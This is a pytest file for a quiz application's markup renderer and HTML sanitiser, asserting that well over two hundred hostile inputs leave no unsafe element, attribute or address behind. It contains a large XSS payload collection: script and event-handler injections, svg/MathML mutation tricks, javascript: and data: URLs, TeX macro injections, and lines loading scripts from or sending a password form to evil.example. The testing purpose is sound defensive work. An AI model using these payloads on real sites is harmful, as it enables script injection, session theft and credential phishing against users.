"""Hostile texts of our own making: none leaves an element, attribute or address behind."""

from html.parser import HTMLParser

import pytest

from quizzes.lib.markup import markup_warnings, plain, render
from quizzes.lib.markup.sanitiser import clean

# Written down a second time on purpose: a slip in the product's list must not excuse itself.
ELEMENTS = frozenset(
    """
    a audio blockquote br code div em h3 h4 h5 h6 hr img li ol p pre s span strong table tbody td
    th thead tr ul video math menclose mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt
    mstyle msub msubsup msup mtable mtd mtext mtr munder munderover
    """.split()
)
ATTRIBUTES = frozenset(
    """
    accent accentunder alt aria-label class columnalign columnlines columnspacing controls depth
    display
    displaystyle fence form height href largeop linethickness lspace mathcolor mathsize
    mathvariant maxsize minsize movablelimits notation preload rel rowlines rowspacing rspace scope
    scriptlevel separator src start stretchy tabindex title voffset width
    """.split()
)


class Auditor(HTMLParser):
    """Collects everything in a fragment of HTML that must not be there."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults = []

    def handle_starttag(self, tag, attrs):
        if tag not in ELEMENTS:
            self.faults.append(f"element {tag}")
        for name, value in attrs:
            self.attribute(tag, name, value or "")

    def attribute(self, tag, name, value):
        if name not in ATTRIBUTES:
            self.faults.append(f"attribute {name} of {tag}")
        if name == "href" and not value.lower().startswith(("http://", "https://", "mailto:")):
            self.faults.append(f"address {value}")
        if name == "src" and not value.startswith(("/media/", "/static/")):
            self.faults.append(f"source {value}")
        if name == "rel" and value != "noopener noreferrer":
            self.faults.append(f"relation {value}")
        if name == "tabindex" and value != "0":
            self.faults.append(f"order {value}")

    def handle_comment(self, data):
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl):
        self.faults.append(f"declaration {decl}")

    def unknown_decl(self, data):
        self.faults.append(f"declaration {data}")

    def handle_pi(self, data):
        self.faults.append(f"instruction {data}")


def faults(html):
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.faults


def assert_harmless(source):
    for inline in (False, True):
        html = render(source, inline=inline)
        assert faults(html) == []
        assert clean(html) == html, "what a browser reads back must not turn into something else"
    assert isinstance(plain(source), str)
    assert isinstance(markup_warnings(source), tuple)


HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/defer>alert(1)</script>",
    "<script type=module>import('//evil.example')</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'/>",
    "<img/src=`x`onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img srcset='x 1x' onload=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)><frame src=data:text/html,x></frameset>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style=behavior:url(x.htc)>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<div onmouseover='alert(1)' style='position:fixed;inset:0'>x</div>",
    "<div id=map name=forms>clobber</div>",
    "<form id=login action=//evil.example><input name=password></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a ping=//evil.example href=https://good.example>x</a>",
    "<a target=_blank href=https://good.example>x</a>",
    "<b onpointerenter=alert(1)>x</b>",
    "<x onclick=alert(1) tabindex=1 id=x>custom</x>",
    "<my-element onconnected=alert(1)>x</my-element>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<portal src=//evil.example onload=alert(1)></portal>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)><td background=x></table>",
    "<bgsound src=javascript:alert(1)>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?><% alert(1) %>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#0000060img src=x onerror=alert(1)&#0000062",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'settings' %}${alert(1)}#{alert(1)}",
    "<div hx-get=/accounts/logout hx-trigger=load>x</div>",
    "<div data-hx-on:load=alert(1) x-data=alert(1) v-html=x>x</div>",
]

# Foreign elements and raw text, where a second reading of the same bytes differs from the first.
MUTATIONS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></svg>",
    "<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><script>alert(1)</script>'></noframes>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<plaintext><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mi href=javascript:alert(1) style=color:red id=x class=y>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></math>",
    "<math><semantics><annotation encoding=x><script>alert(1)</script></semantics></math>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table></mtext>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><b><table><mi><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<math><mtext><option><fake><mglyph><svg><mtext><style><a title='</style><img src onerror=x>'>",
    "<math><mstyle><script>alert(1)</script></mstyle></math>",
    "<math><mtext></mtext><malignmark></malignmark><img src=x onerror=alert(1)></math>",
    "<select><math><mtext><script>alert(1)</script></select>",
    "<table><svg><style><img src=x onerror=alert(1)></table>",
    "<p><svg></p><img src=x onerror=alert(1)>",
    "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style>",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0ascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6a%61vascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://good.example/%0aalert(1)",
    "javascript:https://good.example",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,x",
    "DATA&colon;text/html,x",
    "blob:https://good.example/1",
    "filesystem:https://good.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "view-source:https://good.example",
    "intent://evil.example#Intent;scheme=https;end",
    "tel:+34123456789",
    "sms:1?body=x",
    "about:blank",
    "jar:https://evil.example!/x",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "/&#47;evil.example",
    "/%09/evil.example",
    "/accounts/logout",
    "/media/../accounts/logout",
    "/media/%2e%2e/accounts/logout",
    "/media//evil.example/x",
    "/media/x?next=//evil.example",
    "/mediator/x.png",
    "../x",
    "#id",
    "?logout",
    "https:evil.example",
    "http:/evil.example",
    "https:\\\\evil.example",
    'https://good.example/"onmouseover="alert(1)',
    "https://good.example/'onmouseover='alert(1)",
    "https://good.example/><script>alert(1)</script>",
    "mailto:x@good.example?subject=<script>alert(1)</script>",
    "https://good.example&quot;&#32;onclick=alert(1)",
]

TEX = [
    r"\href{javascript:alert(1)}{x}",
    r"\href {javascript:alert(1)} {x}",
    r"{\href{data:text/html,x}{\frac{1}{2}}}",
    r"\url{javascript:alert(1)}",
    r"\style{background:url(//evil.example)}{x}",
    r"\class{evil}{x}",
    r"\cssId{evil}{x}",
    r"\htmlData{x=y}{z}",
    r"\htmlId{x}{y}",
    r"\htmlStyle{color:red}{x}",
    r"\includegraphics{//evil.example/x.png}",
    r"\input{/etc/passwd}",
    r"\include{/etc/passwd}",
    r"\require{html}",
    r"\unicode{<script>alert(1)</script>}",
    r"\text{<script>alert(1)</script>}",
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{</mtext></math><img src=x onerror=alert(1)>}",
    r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
    r"\text{&#60;script&#62;alert(1)}",
    r"\text{&#x3c;script&#x3e;alert(1)}",
    r"\text{]]><script>alert(1)</script>}",
    r"\text{<!-- --><script>alert(1)</script>}",
    r"\mathrm{<img src=x onerror=alert(1)>}",
    r"\mbox{<svg onload=alert(1)>}",
    r"\operatorname{<script>alert(1)</script>}",
    r"\textbf{<annotation-xml encoding='text/html'><script>x</script></annotation-xml>}",
    r"\hspace{1em\" onclick=\"alert(1)}",
    r"\hspace{1em' onload='alert(1)}",
    r"\hspace{javascript:alert(1)}",
    r'\color{red" onmouseover="alert(1)}{x}',
    r"\color{url(//evil.example)}{x}",
    r"\textcolor{expression(alert(1))}{x}",
    r"\colorbox{red}{<script>alert(1)</script>}",
    r"\rule{1em}{1em\" onload=x}",
    r"\newcommand{\x}{\href{javascript:alert(1)}{y}}\x",
    r"\def\x{\x\x}\x",
    r"\renewcommand{\frac}{\href{x}{y}}",
    r"\DeclareMathOperator{\x}{<script>alert(1)</script>}",
    r"\begin{<script>}x\end{<script>}",
    r"\begin{matrix}<img src=x onerror=alert(1)>\end{matrix}",
    r"\tag{<img src=x onerror=alert(1)>}",
    r"\left< x \right>",
    r"a<b>c</b><script>alert(1)</script>",
    r"\<script\>alert(1)\</script\>",
    "</math><script>alert(1)</script>",
    "<math><mi>x</mi></math>",
    "\x00\\text{<b>}",
]

INFOS = [
    'python"><script>alert(1)</script>',
    "python' onload='alert(1)",
    "python onload=alert(1)",
    "<script async>alert(1)</script>",
    "&quot;&gt;&lt;script&gt;",
    "&#34;onclick=alert(1)",
    "language-python id=x",
    "../../etc/passwd",
    "__import__('os').system('true')",
    "c++ onload=alert(1)",
    "c#\"onload='x'",
    "PYTHON\x00<img src=x onerror=alert(1)>",
    "{.python onload=alert(1)}",
    "python:alert",
    "html+evil",
    "py\u202ethon",
]

CONTEXTS = [
    "{}",
    "`{}`",
    "**{}**",
    "[{}](https://good.example)",
    "![{}](/media/x.png)",
    '[x](https://good.example "{}")',
    '![x](/media/x.png "{}")',
    "[x](<{}>)",
    "> - {}",
    "# {}",
    "| a |\n|---|\n| {} |",
    "```\n{}\n```",
    "```html\n{}\n```",
    "    {}",
    "$\\text{{{}}}$",
    "$$\n{}\n$$",
    "<{}>",
]
FORMS = ["[x]({})", "[x](<{}>)", "<{}>", "![x]({})", "![x](<{}>)", '[x]({} "t")', "{}"]


def in_all_contexts(payload):
    return [context.format(payload) for context in CONTEXTS]


def test_the_attacks_are_many_and_all_different():
    payloads = HTML + MUTATIONS + ADDRESSES + TEX + INFOS
    assert len(payloads) == len(set(payloads))
    assert len(payloads) >= 220


@pytest.mark.parametrize("payload", HTML + MUTATIONS)
def test_html_of_an_author_is_only_ever_text(payload):
    for source in in_all_contexts(payload):
        assert_harmless(source)


@pytest.mark.parametrize("payload", ADDRESSES)
def test_an_address_never_leads_astray(payload):
    for form in FORMS:
        assert_harmless(form.format(payload))


@pytest.mark.parametrize("payload", TEX)
def test_a_formula_holds_no_html(payload):
    for form in ("${}$", "$$\n{}\n$$", "a $${}$$ b", "$x${}$y$"):
        assert_harmless(form.replace("{}", payload))


@pytest.mark.parametrize("payload", INFOS)
def test_the_words_behind_a_fence_stay_there(payload):
    for fence in ("```", "~~~"):
        assert_harmless(f"{fence}{payload}\n<script>alert(1)</script>\n{fence}")
        assert_harmless(f"{fence} {payload}\nx")


@pytest.mark.parametrize("payload", HTML + MUTATIONS)
def test_the_last_wall_holds_without_the_first(payload):
    html = clean(payload)
    assert faults(html) == []
    assert clean(html) == html


@pytest.mark.parametrize("payload", ADDRESSES)
def test_the_last_wall_judges_addresses_too(payload):
    for element in ('<a href="{}">x</a>', '<img src="{}">', '<math href="{}"><mi>x</mi></math>'):
        assert faults(clean(element.format(payload))) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>x</p>",
        "<p style=x>x</p>",
        "<p id=x>x</p>",
        "<a href=javascript:x>x</a>",
        "<a href=//evil.example>x</a>",
        "<a href=https://good.example rel=opener>x</a>",
        "<img src=https://evil.example/x.png>",
        "<pre tabindex=5>x</pre>",
        "<svg></svg>",
        "<math><annotation-xml></annotation-xml></math>",
        "<!-- x -->",
        "<!DOCTYPE x>",
        "<?x ?>",
        "<![CDATA[x]]>",
    ],
)
def test_the_auditor_sees_what_it_should(html):
    assert faults(html) != []
